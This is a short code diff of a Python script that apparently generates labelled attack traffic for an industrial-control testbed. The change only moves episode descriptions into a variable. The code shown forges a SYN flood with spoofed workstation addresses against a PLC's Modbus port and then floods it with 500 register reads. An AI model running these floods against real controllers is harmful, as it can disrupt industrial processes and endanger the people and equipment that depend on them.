@@ -16,7 +16,8 @@ if __name__ == "__main__":
     given = arguments(__doc__)
     syn_ports = reserve_ports(SYNS)
     wire = conf.L2socket(iface="eth0")
-    with episode(given.log, "syn_flood", "400 SYN segments to port 502, none followed by a connection", [ports(syn_ports)]):
+    description = "400 SYN segments to port 502, none followed by a connection"
+    with episode(given.log, "syn_flood", description, [ports(syn_ports)]):
         for port in syn_ports:
             frame = Ether(src=ENGINEERING.mac, dst=PLC.mac) / IP(src=ENGINEERING.ip, dst=PLC.ip, id=RandShort())
             segment = TCP(sport=port, dport=MODBUS_PORT, flags="S", seq=RandInt(), window=1024)
@@ -24,7 +25,8 @@ if __name__ == "__main__":
             time.sleep(SYN_PAUSE_SECONDS)
     time.sleep(20)
     opened: list[int] = []
-    with episode(given.log, "modbus_flood", "500 reads of all holding registers in about a second", [ports(opened)]):
+    description = "500 reads of all holding registers in about a second"
+    with episode(given.log, "modbus_flood", description, [ports(opened)]):
         with Connection(opened) as plc:
             for _ in range(READS):
                 plc.request(read_registers(3, 0, 32))
